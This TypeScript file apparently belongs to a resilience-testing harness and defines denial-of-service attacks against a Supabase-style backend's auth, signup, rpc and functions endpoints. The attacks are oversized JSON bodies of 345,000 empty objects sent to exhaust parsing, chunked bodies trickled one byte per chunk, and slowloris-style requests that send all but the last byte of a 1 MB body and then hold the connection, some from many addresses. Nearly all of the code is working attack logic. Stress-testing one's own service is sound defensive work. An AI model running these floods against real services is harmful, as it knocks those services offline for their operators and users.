import type { Socket } from 'node:net';
import { type Attack, atRate, crowd, type Siege, strangerAt } from '../attack.ts';
import { head, openReader } from '../socket.ts';

const largest = 1024 * 1024;
const emptyObjects = Buffer.from(`{"email":[${Array(345_000).fill('{}').join(',')}]}`);
const oneByteChunks = Buffer.from('1\r\n[\r\n'.repeat(2_500));
const unfinished = Buffer.alloc(largest - 1, ' ');

/** The same body again and again, told of beforehand and in chunks by turns. */
const parsing = (connections: number, perSecond: number): Attack => ({
  name: `a body of 345,000 {}, ${connections === 1 ? 'one connection' : `${connections} connections`}`,
  run: async (siege) => {
    const send = crowd(siege, { connections });
    const headers = { apikey: siege.publicKey, 'content-type': 'application/json' };
    const path = '/auth/v1/token?grant_type=password';
    await atRate(siege, perSecond, () => send({ method: 'POST', path, headers, body: emptyObjects }));
  },
});

/** Where a stranger may send a body. */
const doors = ['/rest/v1/rpc/search_products', '/auth/v1/signup', '/functions/v1/sign-print-request'];

const door = (siege: Siege, turn: number, headers: Record<string, string>): string =>
  head(siege, `POST ${doors[turn % doors.length]}`, {
    apikey: siege.publicKey,
    'content-type': 'application/json',
    ...headers,
  });

/** A million chunks a second over 20 connections, no body ever whole; one that was refused begins again. */
const chunks: Attack = {
  name: 'bodies in chunks of one byte',
  run: async (siege) => {
    const places: { socket: Socket; sent: number }[] = [];
    const begin = (place: number) => ({
      socket: openReader(siege, strangerAt(0), door(siege, place, { 'transfer-encoding': 'chunked' })),
      sent: 0,
    });
    await atRate(siege, 400, (turn) => {
      const at = turn % 20;
      let place = places[at];
      if (!place || place.socket.destroyed || !place.socket.writable) place = places[at] = begin(at);
      if (place.socket.writableNeedDrain || place.sent + 2_500 >= largest) return;
      place.socket.write(oneByteChunks);
      place.sent += 2_500;
    });
  },
};

/** Each sends all of its body but the last byte, and stays. */
const waiting = (addresses: number): Attack => ({
  name: `1,200 bodies that are not finished, ${addresses} address${addresses === 1 ? '' : 'es'}`,
  run: (siege) =>
    atRate(
      siege,
      80,
      (turn) => {
        const headers = { 'content-length': String(largest) };
        openReader(siege, strangerAt(turn % addresses), door(siege, turn, headers)).write(unfinished);
      },
      1_200,
    ),
});

export const bodies: readonly Attack[] = [
  parsing(1, 4),
  parsing(2, 8),
  parsing(30, 40),
  chunks,
  waiting(1),
  waiting(60),
];
